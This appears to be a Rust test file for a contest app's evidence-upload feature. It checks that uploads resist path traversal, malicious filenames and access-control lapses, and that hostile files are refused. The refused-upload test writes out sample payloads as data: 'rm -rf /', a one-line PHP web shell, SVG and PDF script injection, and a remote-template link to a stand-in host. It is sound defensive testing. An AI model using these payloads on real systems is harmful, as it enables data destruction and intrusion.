//! What must never be taken, and where stored bytes must never come out: by content, by name, by address.

use sayembara::{domain::entry::MemberRole, domain::region::RegionRole};

use super::{PDF, World, world};
use crate::support::{
    Answer, build,
    files::{self, office},
};

async fn upload(world: &mut World, name: &str, bytes: &[u8]) -> Answer {
    let path = world.path("/evidence");
    world.browser.post_files(&path, &[("target", "")], &[("file", name, "application/pdf", bytes)]).await
}

#[tokio::test]
async fn rulebook_38_no_address_leads_to_the_stored_bytes() {
    let mut world = world().await;
    upload(&mut world, "laporan.pdf", PDF).await.expect_status(303);
    upload(&mut world, "foto.png", &files::png(400, 400)).await.expect_status(303);
    let keys = files::stored(world.app.uploads());
    assert_eq!(keys.len(), 3, "a preview is no less private: {keys:?}");
    for key in keys {
        let stored = std::fs::read(world.app.uploads().join(&key)).unwrap();
        for path in [
            format!("/{key}"),
            format!("/uploads/{key}"),
            format!("/evidence/{key}"),
            format!("/static/{key}"),
            format!("/var/uploads/{key}"),
            format!("/static/../var/uploads/{key}"),
            format!("/static/%2e%2e/var/uploads/{key}"),
            format!("/static/..%2fvar%2fuploads%2f{key}"),
            format!("/static//etc/passwd?{key}"),
        ] {
            let answer = world.browser.get(&path).await;
            assert!(matches!(answer.status.as_u16(), 400 | 404 | 405), "{path}: {}", answer.status);
            assert!(answer.bytes != stored, "{path}");
        }
    }
}

#[tokio::test]
async fn rulebook_39_names_from_the_form_lead_nowhere() {
    let mut world = world().await;
    let long = format!("{}.pdf", "n".repeat(10_000));
    let names = [
        "../../../tmp/keluar.pdf",
        "..\\\\..\\\\keluar.pdf",
        "/etc/passwd.pdf",
        ".htaccess.pdf",
        "\u{202e}fdp.exe.pdf",
        "lap\u{200b}oran\u{2066}.pdf",
        long.as_str(),
    ];
    for name in names {
        let answer = upload(&mut world, name, PDF).await;
        // A header of 10 000 characters may be more than a form's part can have: refused as a whole then, nothing breaks.
        let is_long = name.len() > 8_000;
        let status = answer.status.as_u16();
        assert!(status == 303 || (is_long && matches!(status, 400 | 413)), "{name}: {status}");
    }
    for piece in world.pieces().await {
        let name = piece.file_name;
        let is_plain =
            |letter: char| !letter.is_control() && !('\u{2000}'..='\u{206f}').contains(&letter) || letter == '…';
        assert!(name.chars().all(is_plain) && name.chars().count() <= 120, "{name:?}");
        assert!(!name.contains(['/', '\\']) && !name.starts_with('.') && name.ends_with(".pdf"), "{name:?}");
    }
    for key in files::stored(world.app.uploads()) {
        assert!(uuid::Uuid::parse_str(&key).is_ok(), "{key}");
    }
}

#[tokio::test]
async fn rulebook_40_an_address_of_a_file_is_asked_for_permission_on_every_fetch() {
    let mut world = world().await;
    world.attach_link().await;
    upload(&mut world, "foto.png", &files::png(400, 400)).await.expect_status(303);
    let piece = world.pieces().await.pop().unwrap();
    let address = format!("/evidence/{}", piece.pid);
    let all = [address.clone(), format!("{address}/preview"), format!("{address}/reading")];
    let (colleague, mut browser) = world.member("Rekan Tim", MemberRole::Viewer).await;
    for path in &all {
        browser.get(path).await.expect_status(200);
    }
    remove_from_team(&world, colleague.id).await;
    for path in &all {
        browser.get(path).await.expect_status(404);
        let outside = world.app.visitor().get(path).await;
        assert!(
            outside.status.as_u16() == 303 && outside.location().starts_with("/session/new"),
            "{path}: {}",
            outside.location()
        );
    }
    world.hand_in().await.expect_status(303);
    let person = build::member_of(&world.app, &world.contest, "Panitia Contoh", RegionRole::Committee).await;
    let mut committee = world.app.signed_in(&person).await;
    for path in &all {
        committee.get(path).await.expect_status(200);
    }
    end_memberships(&world, person.id).await;
    for path in &all {
        committee.get(path).await.expect_status(404);
    }
}

async fn remove_from_team(world: &World, user_id: i64) {
    use sayembara::models::_entities::entry_members;
    use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, sea_query::Expr};
    entry_members::Entity::update_many()
        .col_expr(entry_members::Column::LeftAt, Expr::value(world.app.now()))
        .filter(entry_members::Column::UserId.eq(user_id))
        .exec(world.app.db())
        .await
        .unwrap();
}

async fn end_memberships(world: &World, user_id: i64) {
    use sayembara::models::_entities::memberships;
    use sea_orm::{ColumnTrait, EntityTrait, QueryFilter};
    memberships::Entity::delete_many()
        .filter(memberships::Column::UserId.eq(user_id))
        .exec(world.app.db())
        .await
        .unwrap();
}

#[tokio::test]
async fn rulebook_45_programs_scripts_pages_archives_and_macros_are_refused_by_content() {
    let mut world = world().await;
    let ole = [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), &[0; 600]].concat();
    let macros = office(&[("word/document.xml", b"<w/>"), ("word/vbaProject.bin", b"x")]);
    let hidden = office(&[("word/document.xml", b"<w/>"), ("word/embeddings/oleObject1.bin", b"MZ")]);
    let relation = b"<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"https://jahat.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
    let outside = office(&[("word/document.xml", b"<w/>"), ("word/_rels/settings.xml.rels", relation)]);
    let archive = office(&[("surat/a.txt", b"x")]);
    let script = b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj";
    let not_taken = "Jenis berkas ini tidak diterima";
    let refused: [(&str, &[u8], &str); 16] = [
        ("program.exe", b"MZ\x90\0\x03\0\0\0\x04\0\0\0", not_taken),
        ("program.pdf", b"MZ\x90\0\x03\0\0\0\x04\0\0\0", not_taken),
        ("program.png", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", not_taken),
        ("skrip.pdf", b"#!/bin/sh\nrm -rf /\n", not_taken),
        ("skrip.js", b"alert(1)", not_taken),
        ("skrip.php", b"<?php system($_GET['x']); ?>", not_taken),
        ("halaman.html", b"<!DOCTYPE html><script>alert(1)</script>", not_taken),
        ("gambar.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", not_taken),
        ("gambar.jpg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", not_taken),
        ("arsip.zip", &archive, not_taken),
        ("lama.doc", &ole, "DOC, XLS, dan PPT lama"),
        ("lama.docx", &ole, "DOC, XLS, dan PPT lama"),
        ("makro.docx", &macros, "memuat makro"),
        ("sisipan.docx", &hidden, "memuat berkas lain"),
        ("templat.docx", &outside, "dari alamat lain"),
        ("skrip.pdf", script, "memuat skrip"),
    ];
    for (name, bytes, words) in refused {
        let page = upload(&mut world, name, bytes).await.expect_status(422);
        assert!(page.texts("#error-file")[0].contains(words), "{name}: {:?}", page.texts("#error-file"));
    }
    assert!(world.pieces().await.is_empty() && files::stored(world.app.uploads()).is_empty());
    upload(&mut world, "surat.docx", &office(&[("word/document.xml", b"<w/>")])).await.expect_status(303);
}
